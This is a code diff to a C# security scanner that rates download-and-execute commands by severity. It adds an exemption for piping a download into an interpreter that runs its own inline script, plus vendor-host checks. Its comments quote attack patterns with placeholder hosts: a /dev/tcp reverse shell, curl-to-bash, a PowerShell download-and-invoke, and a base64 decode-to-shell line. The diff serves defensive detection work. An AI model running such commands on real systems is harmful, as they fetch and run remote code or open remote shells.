@@ -31,6 +31,13 @@ public static partial class Origins
     /// <summary>download-exec: medium from a vendor's documented installer host, critical from anywhere else.</summary>
     public static AuditSeverity? JudgeDownloadExec(string text, Match match)
     {
+        // "curl … | python3 -c 'import json,sys; …'": the interpreter runs its own argument and reads the page as data.
+        var after = match.Index + match.Length;
+        if (PipedInterpreter().IsMatch(match.Value) && OwnScript().IsMatch(text.AsSpan(after, Math.Min(16, text.Length - after))))
+        {
+            return null;
+        }
+
         // "bash -c "$(curl -fsSL URL)"" matches before its URL: the host is on the rest of the line. A URL with its
         // scheme comes first, so the file a download is saved to (curl -o ~/x/miniconda.sh URL) is not taken for a host.
         // .NET's type names ("iex ((New-Object System.Net.WebClient).DownloadString('https://…'))") are no hosts.
@@ -93,6 +100,32 @@ public static partial class Origins
     /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
     /// <c>echo '&lt;base64&gt;' | base64 -d | sh</c>) is the shape of an attack a scanner matches, not one that can run.
     /// </summary>
+    [GeneratedRegex(@"\|\s*(?:sudo\s+)?(?:python[23]?|perl|ruby|node|php|bun|deno)$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex PipedInterpreter();
+
+    [GeneratedRegex(@"^\s+-(?:c|e|m|p|-eval|-print)\s", RegexOptions.CultureInvariant)]
+    private static partial Regex OwnScript();
+
+    /// <summary>Whether the text names hosts and every one is a vendor's installer host.</summary>
+    public static bool NamesOnlyVendorHosts(string text)
+    {
+        var any = false;
+        foreach (Match url in UrlHost().Matches(text))
+        {
+            any = true;
+            var host = url.Groups["host"].Value;
+            if (!VendorInstallers.Any(v => host.Equals(v.TrimEnd('/'), StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + v.TrimEnd('/'), StringComparison.OrdinalIgnoreCase)))
+            {
+                return false;
+            }
+        }
+
+        return any;
+    }
+
+    [GeneratedRegex(@"\b(?:https?)://(?<host>[\w-]+(?:\.[\w-]+)+)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex UrlHost();
+
     public static bool IsTemplate(string command) => Template().IsMatch(command);
 
     /// <summary>A critical command, low as a <see cref="IsTemplate">template</see>.</summary>
